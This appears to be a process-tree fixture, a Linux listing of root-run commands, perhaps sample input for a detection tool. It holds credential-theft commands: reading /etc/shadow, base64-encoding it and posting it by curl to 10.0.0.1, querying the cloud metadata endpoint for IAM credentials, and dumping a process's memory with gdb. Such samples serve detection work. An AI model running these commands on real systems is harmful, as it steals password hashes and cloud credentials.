os linux
101 1 root - /usr/bin/bash | /usr/bin/bash
+ 102 101 root - /usr/bin/cat | cat /etc/shadow
+ 103 101 root - /usr/bin/bash | bash -c base64 /etc/shadow | curl -d @- http://10.0.0.1
+ 104 101 root - /usr/bin/curl | curl http://169.254.169.254/latest/meta-data/iam/security-credentials/web
+ 105 101 root - /usr/bin/gdb | gdb -batch -ex generate-core-file -p 812
